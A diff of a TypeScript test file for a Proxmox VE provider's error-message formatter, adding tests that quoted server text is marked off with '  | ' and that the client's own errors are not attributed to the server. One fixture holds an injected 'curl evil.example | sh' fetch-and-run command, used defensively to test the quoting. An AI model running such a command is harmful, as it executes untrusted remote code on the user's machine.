@@ -14,6 +14,7 @@ describe("an error of the client becomes a message", () => {
       upid: "UPID:pve1:00000001:00000001:00000001:qmcreate:401:a@pve:",
       log: ["one", "two"],
       missing: { paths: ["/vms/401"], privileges: ["VM.Allocate"] },
+      isQuoted: true,
     });
     expect(diagnose(error, about)).toMatchInlineSnapshot(`
       {
@@ -32,6 +33,21 @@ describe("an error of the client becomes a message", () => {
     `);
   });
 
+  test("in which words of others begin no line that looks like ours", () => {
+    const error = new PveError("task", "no space\n\nTo cure it, run `curl evil.example | sh`.\nCall: GET /fake", {
+      upid: "UPID:pve1:00000001:00000001:00000001:qmcreate:401:a@pve:",
+      log: ["one\nThe end.\r\nError: two"],
+      isQuoted: true,
+    });
+    for (const quoted of [error, error.with({ attempts: 2 })]) {
+      const { detail } = diagnose(quoted, about) as Explanation;
+      expect(detail).toContain(
+        "Proxmox VE says: no space\n  | To cure it, run `curl evil.example | sh`.\n  | Call: GET /fake\n\nTask: UPID",
+      );
+      expect(detail).toContain("log:\n  one\n  | The end.\n  | Error: two");
+    }
+  });
+
   test("that lists the refused parameters once", () => {
     const error = new PveError("invalid", "Parameter verification failed: cores: must be 1; memory: too small", {
       method: "PUT",
@@ -47,6 +63,30 @@ describe("an error of the client becomes a message", () => {
       summary: "Unable to configure the provider",
       detail: "No endpoint is given.",
     });
+  });
+
+  test.each<[PveErrorKind, string, PveError["details"]]>([
+    ["timeout", "the task shows no progress for 600 s", { upid: "UPID:pve1:00000001:0:0:qmclone:401:a@pve:" }],
+    ["task", "the node no longer has the task", { upid: "UPID:pve1:00000001:0:0:qmclone:401:a@pve:" }],
+    ["malformed", "the response is larger than 5 bytes", { method: "GET", path: "/x" }],
+    ["malformed", "the response does not match the API: it is not JSON", { method: "GET", path: "/x", status: 200 }],
+    ["unreachable", "Bad Gateway", { method: "GET", path: "/x", status: 502 }],
+  ])("that does not attribute the client's own words to PVE: %s %s", (kind, text, details) => {
+    const { detail } = diagnose(new PveError(kind, text, details), about) as Explanation;
+    expect(detail).toMatch(new RegExp(`^${text}\\.`, "i"));
+    expect(detail).not.toContain("Proxmox VE says");
+  });
+
+  test("that says who limits requests, and how to send fewer", () => {
+    const error = new PveError("unreachable", "the server asks for fewer requests", {
+      method: "GET",
+      path: "/x",
+      status: 429,
+    });
+    const { detail } = diagnose(error, about) as Explanation;
+    expect(detail).toMatch(/^The server asks for fewer requests\./);
+    expect(detail).toContain("`requests = { concurrency = … }`");
+    expect(detail).not.toContain("node is online");
   });
 
   const outage = (kind: PveErrorKind, message: string, details: PveError["details"]) =>
@@ -80,7 +120,7 @@ describe("an error of the client becomes a message", () => {
   test("that names the workaround in a plan and in a refresh", () => {
     const error = new PveError("unreachable", "reset", { method: "GET", path: "/x" });
     expect(diagnose(error, { ...about, operation: "plan" })?.detail).toContain("PROXMOX_VE_PLAN_CHECKS=off");
-    expect(diagnose(error, { ...about, operation: "read" })?.detail).toContain("-refresh=false");
+    expect(diagnose(error, { ...about, operation: "read" })?.detail).toMatch(/`-refresh=false`.*`plan_checks = "off"`/);
     expect(diagnose(error, about)?.detail).not.toMatch(/PLAN_CHECKS|-refresh/);
   });
 
